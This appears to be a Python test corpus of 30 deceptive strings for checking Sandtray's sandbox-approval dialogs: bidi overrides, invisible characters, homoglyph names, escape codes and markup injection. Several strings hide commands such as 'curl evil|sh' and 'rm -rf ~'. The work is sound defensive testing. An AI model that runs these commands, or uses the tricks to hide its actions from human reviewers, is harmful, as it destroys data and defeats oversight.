#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""D-probes: 30 hostile strings for Sandtray's review dialogs. Runs on the HOST, beside the GUI tests. usage:
  h07_dialog_corpus.py json            the corpus as JSON lines {id, field, len, sha256, text, must}; texts over 20 000 characters are cut
  h07_dialog_corpus.py requests        the same as JSON-RPC tools/call bodies for Sandtray's own tools, never cut
  h07_dialog_corpus.py check FILE      FILE: JSON lines {id, shown}, shown = the text that the live dialog displays (QAccessible); judges each
  h07_dialog_corpus.py selftest        judges the reference sanitizer visible() below
Rule judged: what is shown holds no control, bidi, zero-width, tag, private-use or unassigned code point except TAB and LF in the code view; hidden ones
appear as a visible escape like <U+202E>; no markup is interpreted. What "must" asks beyond that (flags, counts, eliding) the GUI tests assert row by row.
One line per string: ID PASS|FAIL|SKIP detail. Exit status 0 when nothing failed, 1 when something did."""
import sys, json, unicodedata, hashlib
def visible(s, multiline=True, limit=None):
    o = []
    for ch in s:
        c = ord(ch); cat = unicodedata.category(ch)
        if ch in "\n\t" and multiline: o.append(ch)
        elif cat in ("Cc", "Cf", "Co", "Cn", "Cs", "Zl", "Zp") or (cat == "Zs" and ch != " ") or 0xFE00 <= c <= 0xFE0F or 0xE0100 <= c <= 0xE01EF or c in (0x115F, 0x1160, 0x3164, 0xFFA0, 0x2800, 0x180E): o.append("<U+%04X>" % c)
        else: o.append(ch)
    return "".join(o)
def mixed(s):
    sc = {unicodedata.name(c, "?").split()[0] for c in s if c.isalpha()}
    return len(sc & {"LATIN", "CYRILLIC", "GREEK", "ARMENIAN", "CHEROKEE", "FULLWIDTH"}) > 1
C = [("D01", "script", "access = \"user\u202e \u2066// allow only admin\u2069 \u2066\"", "bidi override/isolates shown as <U+202E>.. (CVE-2021-42574)"),
("D02", "script", "rm\u200b -rf \u2060~/x", "zero-width shown"), ("D03", "name", "p\u0430ypal-tool", "mixed Latin/Cyrillic flagged"), ("D04", "name", "\u0440\u0430\u0443\u0440\u0430l", "whole-script confusable flagged"),
("D05", "script", "echo safe\x1b[2K\rrm -rf ~", "ESC and CR shown"), ("D06", "name", "<b>Verified by Apple</b><img src='file:///etc/passwd'><a href='http://x'>ok</a>", "literal text, no rich text, no file/network load (QLabel: Qt::PlainText)"),
("D07", "script", "echo hi" + "\n" * 500 + "curl evil|sh", "line count shown; cannot approve before the end was scrolled into view, or blank run collapsed with a mark"), ("D08", "script", "echo hi" + " " * 5000 + "; curl evil|sh", "wraps; never cut off at the right edge"),
("D09", "script", "A" * 5_000_000, "no freeze; size shown; approve disabled or asks for file view"), ("D10", "name", "x\nApproved by administrator\n\n[Allow]", "names are single line"), ("D11", "title", "System Update \u2014 KDE Wallet", "app name fixed in title; caller text only inside a marked area"),
("D12", "name", "\u202egnp.exe", "RLO in file name"), ("D13", "script", "echo \U000e0041\U000e0042\U000e0043", "tag characters shown"), ("D14", "script", "a\ufe0f\u200d" * 200, "joiner/variation flood shown"), ("D15", "name", "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 30, "combining marks capped, do not overdraw other rows"),
("D16", "name", "\u3164\u115f\u2800", "blank-looking letters shown"), ("D17", "script", "&amp;&#x202e;%0a\\u202e", "no entity/percent/backslash decoding in the view"), ("D18", "name", "", "empty name shown as (empty)"), ("D19", "name", "&Allow &Deny", "ampersand does not make mnemonics (Alt+A)"), ("D20", "host", "xn--pypl-53dc.com", "punycode stays punycode"), ("D21", "host", "github.com@evil.example", "host part only"),
("D22", "host", "very-long-" + "a" * 200 + ".github.com.evil.example", "elide in the MIDDLE/left, registrable domain always visible"), ("D23", "script", "echo \x00rm", "NUL does not cut the view"), ("D24", "script", "echo \ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"), "lone surrogate shown as U+FFFD"), ("D25", "script", "# " + "x" * 199 + "\u2028curl evil|sh", "U+2028/2029/0085/VT/FF shown, not a line break"), ("D26", "path", "/home/u/project/../../../etc", "canonical path shown"), ("D27", "script", "echo 1 #\u00a0\u2000\u3000", "odd spaces shown"), ("D28", "env", "LD_PRELOAD=/tmp/x.so", "dangerous variables highlighted"), ("D29", "name", "\u2705 Safe \U0001f512", "emoji do not look like the app's own badges"), ("D30", "script", "bash -c \"$(echo Y3VybCBldmlsfHNo | base64 -d)\"", "shown verbatim; no 'safe' verdict")]
def call(field, t):
    if field == "script": return "run_code", {"language": "bash", "code": t}
    if field == "host": return "create_sandbox", {"network": "hosts", "allow_hosts": [t]}
    if field == "path": return "copy_to_sandbox", {"host_path": t}
    if field == "env": return "run_command", {"command": "true", "env": dict([t.split("=", 1)])}
    return "create_sandbox", {"name": t}
def judge(i, shown):
    src = next((c for c in C if c[0] == i), None)
    if not src: return None, "unknown id"
    bad = ["U+%04X" % ord(ch) for ch in shown if visible(ch) != ch]
    if bad: return False, "hidden code points reach the screen: %s" % sorted(set(bad))[:6]
    if i in ("D06",) and "<b>" not in shown: return False, "markup swallowed"
    if i == "D10" and "\n" in shown: return False, "multi-line name"
    if i in ("D03",) and not mixed(src[2]): return False, "no"
    return True, "clean"
if __name__ == "__main__":
    m = sys.argv[1] if len(sys.argv) > 1 else "json"; failed = 0
    if m == "json":
        for i, f, t, w in C: print(json.dumps({"id": i, "field": f, "len": len(t), "sha256": hashlib.sha256(t.encode("utf-8", "replace")).hexdigest(), "text": t if len(t) < 20000 else t[:50] + "…(generate %d)" % len(t), "must": w}))
    elif m == "requests":
        for i, f, t, w in C: n, a = call(f, t); print(json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call", "params": {"name": n, "arguments": a}}))
    elif m == "check":
        for l in open(sys.argv[2], encoding="utf-8"):
            j = json.loads(l); ok, d = judge(j["id"], j["shown"]); failed |= ok is False; print(j["id"], {True: "PASS", False: "FAIL", None: "SKIP"}[ok], d)
    else:
        for i, f, t, w in C:
            ok, d = judge(i, visible(t[:20000], f in ("script",))); failed |= not ok; print(i, "PASS" if ok else "FAIL", d)
    sys.exit(1 if failed else 0)
